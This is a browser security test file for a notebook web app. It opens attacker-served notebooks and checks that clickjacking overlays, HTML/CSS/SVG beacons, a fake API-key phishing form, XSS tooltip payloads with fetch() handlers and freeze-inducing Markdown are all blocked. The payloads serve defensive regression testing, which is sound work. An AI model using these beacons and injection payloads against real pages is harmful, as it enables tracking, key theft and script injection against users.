import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { addEndpoint, startBrowserApp, stopBrowserApp } from './harness';
import { startTestServer, type TestServer } from '../server/test-server';

/**
 * A hostile notebook's content against the page, in Chromium: each test is an attack that
 * worked on the page before (issue 18, items 1, 2, 6 and 7). A listener on 127.0.0.1 is the
 * attacker: it serves the notebooks that are opened by link, and must receive nothing else.
 */
const KEY = 'sk-CONTENT-ATTACK-51c2';

let llm: TestServer;
let app: { url: string; close(): Promise<void> };
let browser: Browser;
let page: Page;
let errors: string[];
let attacker: Server;
let L: string;
/** What reached the attacker, apart from the notebooks it served. */
const received: string[] = [];
const served = new Map<string, string>();

const cell = (name: string) => page.locator(`[data-cell-name="${name}"]`);
const chatCalls = () => llm.requests.filter((r) => r.path.endsWith('/chat/completions')).length;
const fence = (kind: string, name: string, code: string) => `\`\`\`${kind} ${name}\n${code}\n\`\`\`\n`;
const experiment = (name: string) => fence('experiment', name, `{ endpoint: 'local', models: ['model-a'], tasks: ['Write a haiku for ${name}'], prompt: 'Attacker prompt {{task}}', scale: { min: 1, max: 7 }, repetitions: 1 }`);

/** Every way HTML loads something from a host: each path names the form that got through. */
function beacons(url: string): string {
  return [
    `<img src="${url}img"><img srcset="${url}srcset 1x"><picture><source srcset="${url}source"><img></picture>`,
    `<video poster="${url}poster"></video><audio src="${url}audio"></audio><table background="${url}table-bg"><tr><td>t</td></tr></table>`,
    `<input type="image" src="${url}input-image"><div style="background: url(${url}css-url)">d</div>`,
    `<style>@import url(${url}import); .x { background: u\\72l(${url}escaped) } @font-face { font-family: f; src: url(${url}font) } .f { font-family: f }</style><p class="x f">styled</p>`,
    `<div style="background-image: image-set('${url}image-set' 1x)">i</div><link rel="stylesheet" href="${url}link"><object data="${url}object"></object><iframe src="${url}iframe"></iframe>`,
    `<svg width="20" height="20"><image href="${url}svg-image"></image><rect width="5" height="5" fill="url(${url}fill#a)"></rect>`,
    `<rect width="5" height="5" mask="url(${url}mask#m)"></rect><rect width="5" height="5" clip-path="url('${url}clip#c')"></rect>`,
    `<path d="M0,0L5,5" marker-end="url(${url}marker#m)"></path><rect width="5" height="5" stroke="u\\72l(${url}svg-escaped#e)"></rect></svg>`,
  ].join('\n');
}

beforeAll(async () => {
  llm = await startTestServer({ latencyMs: 5, models: ['model-a'], apiKey: KEY });
  attacker = createServer((req, res) => {
    const text = served.get(req.url ?? '');
    if (text === undefined) received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/markdown' }).end(text ?? 'ok');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  L = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  ({ app, browser, page, errors } = await startBrowserApp());
  await page.goto(app.url);
  await addEndpoint(page, { name: 'local', baseURL: llm.url, apiKey: KEY });
});

afterAll(async () => {
  await stopBrowserApp({ app, browser });
  await llm?.close();
  await new Promise((r) => attacker?.close(r));
});

/** Opens a notebook by link, `?notebook=<attacker's URL>`, as a victim who follows it. */
async function openByLink(path: string, text: string): Promise<void> {
  served.set(`/${path}`, text);
  await page.goto(`${app.url}?notebook=${encodeURIComponent(L + path)}`);
  const title = /^title: (.*)$/m.exec(text)![1];
  await page.waitForFunction((t) => (document.querySelector('[aria-label="Notebook title"]') as HTMLInputElement | null)?.value === t, title);
}

/** Lets anything the page might still load arrive at the listener before it is checked. */
const settle = () => page.waitForTimeout(1500);

describe('a hostile notebook\'s content in Chromium', () => {
  it('cannot make two clicks anywhere trust it and run its experiments (clickjacking)', async () => {
    const style = `<style>
.banner.trust, .top-bar { opacity: 0 !important; }
[data-testid="trust"], [data-testid="review-trust"], [data-testid="run-all"] { position: fixed !important; inset: 0 !important; width: 100vw !important; height: 100vh !important; opacity: 0 !important; z-index: 99999 !important; }
</style><div style="position: fixed; inset: 0; z-index: 99998">Click anywhere to continue</div>`;
    await openByLink('clickjack.md', ['---\ntitle: Free prompts\n---\n', style, '\nClick anywhere to continue.\n', experiment('first'), experiment('second')].join('\n'));
    const banner = page.getByRole('region', { name: 'Untrusted notebook' });
    await banner.getByText(`the URL ${L}clickjack.md`).waitFor();
    await page.getByText('Click anywhere to continue.').waitFor();
    await page.mouse.click(640, 450);
    await page.mouse.click(640, 450);
    await page.mouse.click(100, 100);
    await settle();
    expect(chatCalls()).toBe(0);
    expect(await cell('first').getByText(/Not run: this notebook came from the URL/).count()).toBe(1);
    // The page shows what it is: the banner, in the page's own style, and no notebook style at all.
    expect(await banner.evaluate((e) => getComputedStyle(e).opacity)).toBe('1');
    expect(await page.evaluate(() => document.querySelectorAll('.markdown style, .markdown [style]').length)).toBe(0);
    // The real trust dialog: modal, in the top layer, naming the link it came from; Esc leaves it untrusted.
    await page.getByTestId('review-trust').click();
    const dialog = page.getByTestId('trust-dialog');
    await dialog.getByTestId('trust-source').getByText(`the URL ${L}clickjack.md`).waitFor();
    expect(await dialog.evaluate((d) => (d as HTMLDialogElement).open && d.matches(':modal'))).toBe(true);
    const box = (await dialog.getByTestId('trust').boundingBox())!;
    expect(await page.evaluate(([x, y]) => document.elementFromPoint(x, y)?.getAttribute('data-testid'), [box.x + box.width / 2, box.y + box.height / 2])).toBe('trust');
    await page.keyboard.press('Escape');
    expect(await dialog.evaluate((d) => (d as HTMLDialogElement).open)).toBe(false);
    expect(await banner.isVisible()).toBe(true);
    expect(chatCalls()).toBe(0);
    expect(received).toEqual([]);
    // The page's CSP refused none of the app's own code or styles (e.g. the code editors' themes).
    expect(errors.filter((e) => /Content Security Policy/.test(e))).toEqual([]);
  });

  it('once trusted, asks before Run all spends on the viewer\'s key; Esc sends nothing', async () => {
    await page.getByTestId('review-trust').click();
    await page.getByTestId('trust').click();
    await cell('second').getByText(/calls planned/).waitFor();
    const ask = page.getByTestId('paid-call-dialog');
    await page.getByTestId('run-all').click();
    await ask.getByText('Send 2 calls on your endpoints?').waitFor();
    // The tokens column (a number) between calls and cost is dropped to compare the rest.
    expect((await ask.locator('tbody tr').allInnerTexts()).map((r) => r.replace(/\t\d[\d,]*\t(?=cost unknown$)/, '\t'))).toEqual([`first\tlocal (${llm.url})\tmodel-a\t1\tcost unknown`, `second\tlocal (${llm.url})\tmodel-a\t1\tcost unknown`]);
    await page.keyboard.press('Escape');
    // Submit all as batch asks the same way, and Cancel uploads nothing.
    await page.getByRole('button', { name: 'Submit all as batch' }).click();
    await ask.getByText(/what it would send through the Batch API/).waitFor();
    await page.getByTestId('paid-call-cancel').click();
    await settle();
    expect(chatCalls()).toBe(0);
    expect(llm.requests.filter((r) => /\/(files|batches)/.test(r.path))).toEqual([]);
    await page.getByTestId('run-all').click();
    await page.getByTestId('paid-call-confirm').click();
    await cell('second').locator('tbody tr').first().waitFor();
    expect(chatCalls()).toBe(2);
    expect(llm.requests.filter((r) => r.path.endsWith('/chat/completions')).every((r) => JSON.stringify(r.body).includes('Attacker prompt'))).toBe(true);
  });

  it('sends no beacon before trust, and shows no form to type a key into', async () => {
    const form = `<form action="${L}phish" method="post"><p>Session expired: paste your API key</p><input name="key"><button>Continue</button></form>`;
    await openByLink('beacons.md', ['---\ntitle: Beacons\n---\n', 'Before trust.\n', beacons(L), '\n', form, '\n![chart](' + L + 'md-image.png)\n', fence('query', 'x', '1')].join('\n'));
    await page.getByText('Before trust.').waitFor();
    await settle();
    expect(received).toEqual([]);
    await page.getByText('remote image not loaded: chart').waitFor();
    expect(await page.locator('main form, main input[name="key"], main button:has-text("Continue")').count()).toBe(0);
    expect(await page.getByText('Session expired: paste your API key').count()).toBe(1);
  });

  it('keeps a trusted cell\'s chart from reaching any host through CSS or SVG', async () => {
    const chart = `{
  const div = document.createElement('div');
  div.innerHTML = ${JSON.stringify(beacons(L + 'chart-'))} + '<svg class="plot-x" width="100" height="50"><circle cx="10" cy="10" r="5"></circle><circle cx="30" cy="10" r="5"></circle></svg>';
  return div;
}`;
    const ramp = fence('plot', 'ramp', "Plot.legend({ color: { scheme: 'viridis', domain: [0, 10], label: 'Overall' } })");
    await openByLink('chart.md', ['---\ntitle: Leaky chart\n---\n', fence('plot', 'leakyChart', chart), ramp].join('\n'));
    await page.getByTestId('review-trust').click();
    await page.getByTestId('trust').click();
    const view = cell('leakyChart').locator('.dom-view');
    await view.locator('svg.plot-x').waitFor();
    expect(await view.locator('svg.plot-x circle').count()).toBe(2);
    await settle();
    expect(received).toEqual([]);
    expect(await view.innerHTML()).not.toContain('127.0.0.1');
    // What Plot draws itself stays: a colour ramp is an SVG image of a PNG it made.
    const image = cell('ramp').locator('.dom-view svg image');
    await image.waitFor();
    expect(await image.evaluate((e) => (e.getAttribute('href') ?? e.getAttribute('xlink:href') ?? '').slice(0, 22))).toBe('data:image/png;base64,');
  });

  it('shows a chart\'s hostile tip (HTML in a value and in a channel\'s name) as text, loading nothing', async () => {
    const img = `<img src="${L}tip-img" onerror="fetch('${L}tip-onerror')">`;
    const label = `<b onmouseover="fetch('${L}tip-label')">who</b>`;
    const code = `Plot.plot({ marks: [Plot.dot([{ a: 1, b: 2, who: ${JSON.stringify(img)} }], { x: 'a', y: 'b', r: 8, tip: true, channels: { ${JSON.stringify(label)}: 'who' } })] })`;
    await openByLink('tip.md', ['---\ntitle: Hostile tip\n---\n', fence('plot', 'tipChart', code)].join('\n'));
    await page.getByTestId('review-trust').click();
    await page.getByTestId('trust').click();
    const dot = cell('tipChart').locator('.dom-view svg circle[data-tip]');
    await dot.waitFor();
    await dot.scrollIntoViewIfNeeded();
    const box = (await dot.boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    const tip = page.getByTestId('chart-tip');
    await tip.waitFor();
    // Plot shortens a long label with an ellipsis, as its own tip would; it stays text.
    expect((await tip.locator('b').allTextContents()).some((t) => t.startsWith('<b onmouseover="fetch('))).toBe(true);
    expect(await tip.locator('span').allTextContents()).toContain(img);
    expect(await tip.locator('img, b b, [onmouseover], [onerror]').count()).toBe(0);
    await settle();
    expect(received).toEqual([]);
  });

  it('walls off remote loads with the page\'s own CSP, even past the sanitiser', async () => {
    const blocked = await page.evaluate(async (url) => {
      const img = document.createElement('img');
      const loaded = new Promise<string>((resolve) => {
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
      });
      img.src = `${url}csp-img`;
      document.body.append(img);
      const style = document.createElement('style');
      style.textContent = `@import url(${url}csp-import);`;
      document.head.append(style);
      return loaded;
    }, L);
    expect(blocked).toBe('blocked');
    await settle();
    expect(received).toEqual([]);
  });

  it('opens a notebook of pathological Markdown without freezing the page, saying in place why a text is plain', async () => {
    const text = [
      '---\ntitle: Pathological text\n---\n',
      'First text.',
      '<!-- cell -->',
      '*a'.repeat(100_000),
      '<!-- cell -->',
      `${'>'.repeat(5000)} deep`,
      '<!-- cell -->',
      '*_a'.repeat(3000),
      ...Array.from({ length: 100 }, (_, i) => `<!-- cell -->\nText ${i}: ${'**bold** and _italic_ '.repeat(40)}`),
      '<!-- cell -->\nLast text.',
    ].join('\n');
    await page.goto(app.url);
    await page.getByTestId('import-notebook').waitFor();
    // Every main-thread task over 50 ms from here on, as the browser reports it.
    await page.evaluate(() => {
      const w = window as unknown as { longTasks: number[] };
      w.longTasks = [];
      new PerformanceObserver((list) => void w.longTasks.push(...list.getEntries().map((e) => e.duration))).observe({ type: 'longtask' });
    });
    await page.getByTestId('import-notebook').setInputFiles({ name: 'pathological.md', mimeType: 'text/markdown', buffer: Buffer.from(text) });
    await page.waitForFunction(() => (document.querySelector('[aria-label="Notebook title"]') as HTMLInputElement | null)?.value === 'Pathological text');
    await page.getByText('Last text.').waitFor();
    await page.getByText('This text cell has 200,000 characters, over the 20,000 that are formatted; it is shown as plain text.').waitFor();
    await page.getByText('This text cell nests quotes or lists more than 16 levels deep; it is shown as plain text.').waitFor();
    await page.getByText(/A paragraph of this text cell has more than 500 emphasis marks/).waitFor();
    expect(await page.locator('.markdown strong').count()).toBe(100 * 40);
    const longTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
    console.log(`longest main-thread task while opening: ${Math.round(Math.max(0, ...longTasks))} ms (${longTasks.length} over 50 ms)`);
    expect(Math.max(0, ...longTasks)).toBeLessThan(1000);
  });
});
